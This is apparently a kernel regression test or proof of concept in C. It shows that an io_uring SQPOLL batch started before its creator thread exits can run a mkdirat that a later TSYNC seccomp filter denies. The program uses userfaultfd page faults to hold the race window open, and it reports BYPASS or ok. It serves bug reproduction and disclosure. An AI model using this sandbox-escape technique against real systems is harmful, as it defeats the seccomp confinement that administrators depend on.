// SPDX-License-Identifier: GPL-2.0
/*
 * Finding A: a SQPOLL batch that started while its creator thread was
 * alive keeps testing the creator's SECCOMP_URING_JUDGED bit for every
 * SQE (io_submit_sqes(): judge = io_seccomp_task(ctx) once per batch).
 * If the creator exits and is reaped while the batch runs, a filter
 * installed with TSYNC afterwards never reaches it (it is no longer on the
 * thread list, and the PF_EXITING branch of seccomp_sync_threads() cannot
 * see it either), so the rest of the batch runs unjudged although every
 * live thread, the SQ thread included, has the filter.
 *
 * How the window is made (all deterministic, userfaultfd for kernel
 * faults: run as root or with vm.unprivileged_userfaultfd=1):
 *
 *  1. Thread X: write(F, page1) with page1 a missing userfaultfd page:
 *     X blocks in the fault while holding F's inode lock.
 *  2. Thread C sets up SQPOLL ring R and plain ring Q, queues an
 *     IOSQE_ASYNC WRITE to F on Q (its io-wq worker blocks on the inode
 *     lock, uninterruptibly) and calls pthread_exit(). do_exit() ->
 *     io_uring_files_cancel() removes C's tctx nodes (takes and drops R's
 *     uring_lock) and then waits in io_wq_put_and_exit() for the worker:
 *     C is now in do_exit() but not yet PF_EXITING.
 *  3. Main queues on R: SQE0 = OPENAT of a path on missing page2, SQE1 =
 *     MKDIRAT. The SQ thread starts a batch, io_seccomp_task() gives C
 *     (not exiting), and prep of SQE0 blocks on page2: the batch is held.
 *  4. Main resolves page1: X, then the worker, then C finish; C is reaped.
 *  5. Main installs "mkdirat -> EPERM" with TSYNC | URING.
 *  6. Main resolves page2. SQE1 is tested against C's JUDGED bit (clear).
 *
 * RESULT: BYPASS  the MKDIRAT read after the TSYNC filter ran (res 0)
 * RESULT: ok      it was refused with -EPERM
 */
#include "common.h"
#include <linux/userfaultfd.h>
#include <sys/ioctl.h>
#include <dirent.h>

static int uffd, file_fd;
static char *page1, *page2;
static struct ring R, Q;
static volatile pid_t c_tid;
static volatile int c_ready, c_err;
static char fpath[128], dpath[128];

static void *x_thread(void *arg)
{
	ssize_t n = write(file_fd, page1, 4096);

	(void)n;
	return NULL;
}

/* Whether an io-wq worker of this process sleeps uninterruptibly */
static int worker_blocked(void)
{
	char path[96], comm[32];
	struct dirent *e;
	int found = 0;
	DIR *d;

	d = opendir("/proc/self/task");
	if (!d)
		return 0;
	while (!found && (e = readdir(d))) {
		pid_t t = atoi(e->d_name);
		ssize_t n;
		int fd;

		if (t <= 0)
			continue;
		snprintf(path, sizeof(path), "/proc/self/task/%d/comm", t);
		fd = open(path, O_RDONLY);
		if (fd < 0)
			continue;
		n = read(fd, comm, sizeof(comm) - 1);
		close(fd);
		comm[n > 0 ? n : 0] = 0;
		found = !strncmp(comm, "iou-wrk", 7) && task_state(t) == 'D';
	}
	closedir(d);
	return found;
}

static void *c_thread(void *arg)
{
	static char buf[4096];
	struct io_uring_sqe *sqe;
	int ret;

	c_tid = gettid();
	ret = ring_init(&R, IORING_SETUP_SQPOLL, 5000);
	if (!ret)
		ret = ring_init(&Q, 0, 0);
	if (!ret) {
		sqe = ring_sqe(&Q);
		sqe->opcode = IORING_OP_WRITE;
		sqe->fd = file_fd;
		sqe->addr = (unsigned long)buf;
		sqe->len = sizeof(buf);
		sqe->off = 0;
		sqe->flags = IOSQE_ASYNC;
		ret = ring_submit(&Q);
	}
	/* the write must be running (blocked on the inode lock) */
	for (int i = 0; !ret && i < 5000 && !worker_blocked(); i++)
		msleep(1);
	if (!ret && !worker_blocked())
		ret = -EAGAIN;
	c_err = ret;
	c_ready = 1;
	/* leave while the write sits in this thread's io-wq */
	pthread_exit(NULL);
}

/* Wait for a userfault at @addr; 0 if it came */
static int wait_fault(char *addr, int ms)
{
	struct pollfd pfd = { .fd = uffd, .events = POLLIN };
	struct uffd_msg msg;

	if (poll(&pfd, 1, ms) != 1)
		return -1;
	if (read(uffd, &msg, sizeof(msg)) != sizeof(msg) ||
	    msg.event != UFFD_EVENT_PAGEFAULT)
		return -1;
	if ((msg.arg.pagefault.address & ~4095ULL) != (unsigned long)addr) {
		fprintf(stderr, "fault at unexpected address %llx\n",
			(unsigned long long)msg.arg.pagefault.address);
		return -1;
	}
	return 0;
}

static int resolve(char *addr, const char *content)
{
	static char src[4096];
	struct uffdio_copy copy = { 0 };

	memset(src, 'x', sizeof(src));
	if (content)
		snprintf(src, sizeof(src), "%s", content);
	copy.dst = (unsigned long)addr;
	copy.src = (unsigned long)src;
	copy.len = 4096;
	return ioctl(uffd, UFFDIO_COPY, &copy);
}

static int test(void)
{
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register reg = { 0 };
	struct io_uring_cqe cqe;
	struct io_uring_sqe *sqe;
	pthread_t x, c;
	char *pages;
	int i, ret, mk_res = 1;

	uffd = syscall(__NR_userfaultfd, O_CLOEXEC | O_NONBLOCK);
	if (uffd < 0) {
		printf("RESULT: ok (SKIP: userfaultfd for kernel faults needs root or vm.unprivileged_userfaultfd=1: %s)\n",
		       strerror(errno));
		return 0;
	}
	if (ioctl(uffd, UFFDIO_API, &api))
		return perror("UFFDIO_API"), 2;
	pages = mmap(NULL, 2 * 4096, PROT_READ | PROT_WRITE,
		     MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (pages == MAP_FAILED)
		return perror("mmap"), 2;
	page1 = pages;
	page2 = pages + 4096;
	reg.range.start = (unsigned long)pages;
	reg.range.len = 2 * 4096;
	reg.mode = UFFDIO_REGISTER_MODE_MISSING;
	if (ioctl(uffd, UFFDIO_REGISTER, &reg))
		return perror("UFFDIO_REGISTER"), 2;

	snprintf(fpath, sizeof(fpath), "/tmp/issue14r2-a-file.%d", getpid());
	snprintf(dpath, sizeof(dpath), "/tmp/issue14r2-a-dir.%d", getpid());
	rmdir(dpath);
	file_fd = open(fpath, O_RDWR | O_CREAT | O_TRUNC, 0600);
	if (file_fd < 0)
		return perror("open"), 2;
	unlink(fpath);

	/* 1: X holds F's inode lock, blocked on page1 */
	pthread_create(&x, NULL, x_thread, NULL);
	if (wait_fault(page1, 5000)) {
		printf("RESULT: ok (inconclusive: write(2) did not fault on page1)\n");
		return 0;
	}

	/* 2: C makes the rings, leaves a blocked io-wq write, exits */
	pthread_create(&c, NULL, c_thread, NULL);
	while (!c_ready)
		msleep(1);
	if (c_err) {
		printf("RESULT: ok (inconclusive: ring setup/submit: %s)\n",
		       strerror(-c_err));
		return 0;
	}
	for (i = 0; i < 2000 && task_state(c_tid) != 'D'; i++)
		msleep(1);
	msleep(100);
	if (task_state(c_tid) != 'D') {
		printf("RESULT: ok (inconclusive: creator not held in do_exit(), state '%c')\n",
		       task_state(c_tid) ?: '-');
		return 0;
	}

	/* 3: a batch on R that starts while C is not PF_EXITING, held on page2 */
	sqe = ring_sqe(&R);
	sqe->opcode = IORING_OP_OPENAT;
	sqe->fd = AT_FDCWD;
	sqe->addr = (unsigned long)page2;
	sqe->open_flags = O_RDONLY;
	sqe->user_data = 100;
	queue_mkdirat(&R, dpath, 101);
	ret = ring_submit(&R);
	if (ret) {
		printf("RESULT: ok (inconclusive: io_uring_enter on R: %s)\n",
		       strerror(-ret));
		return 0;
	}
	if (wait_fault(page2, 5000)) {
		printf("RESULT: ok (inconclusive: the SQ thread did not fault on page2)\n");
		return 0;
	}

	/* 4: let X, the worker and C finish; wait until C is reaped */
	if (resolve(page1, NULL))
		return perror("UFFDIO_COPY page1"), 2;
	pthread_join(x, NULL);
	for (i = 0; i < 5000 && thread_hashed(c_tid); i++)
		msleep(1);
	if (thread_hashed(c_tid)) {
		printf("RESULT: ok (inconclusive: creator thread not reaped)\n");
		return 0;
	}

	/* 5: the filter, on every live thread (the SQ thread included) */
	ret = install_deny_mkdirat(SECCOMP_FILTER_FLAG_TSYNC);
	if (ret) {
		printf("RESULT: ok (SKIP: seccomp(TSYNC|URING): %s)\n",
		       strerror(-ret));
		return 0;
	}
	if (syscall(__NR_mkdirat, AT_FDCWD, dpath, 0700) == 0 || errno != EPERM) {
		printf("RESULT: ok (inconclusive: the filter does not refuse mkdirat(2))\n");
		return 0;
	}

	/* 6: release the batch: SQE1 is read now, after the filter */
	if (resolve(page2, "/dev/null"))
		return perror("UFFDIO_COPY page2"), 2;
	for (i = 0; i < 2; i++) {
		if (ring_wait_cqe(&R, 5000, &cqe)) {
			printf("RESULT: ok (inconclusive: no CQE)\n");
			return 0;
		}
		if (cqe.user_data == 101)
			mk_res = cqe.res;
	}
	if (mk_res == 0 || access(dpath, F_OK) == 0) {
		printf("RESULT: BYPASS: MKDIRAT read after a TSYNC|URING filter that refuses mkdirat ran unjudged (res %d, %s exists)\n",
		       mk_res, dpath);
		rmdir(dpath);
		return 1;
	}
	if (mk_res == -EPERM) {
		printf("RESULT: ok: the MKDIRAT was refused with -EPERM\n");
		return 0;
	}
	printf("RESULT: ok (inconclusive: MKDIRAT res %d)\n", mk_res);
	return 0;
}

int main(void)
{
	int status;
	pid_t pid;

	setvbuf(stdout, NULL, _IONBF, 0);
	pid = fork();
	if (pid == 0) {
		alarm(30);
		_exit(test());
	}
	if (waitpid(pid, &status, 0) < 0)
		return perror("waitpid"), 2;
	if (WIFSIGNALED(status))
		printf("RESULT: ok (inconclusive: test process died by signal %d)\n",
		       WTERMSIG(status));
	return 0;
}
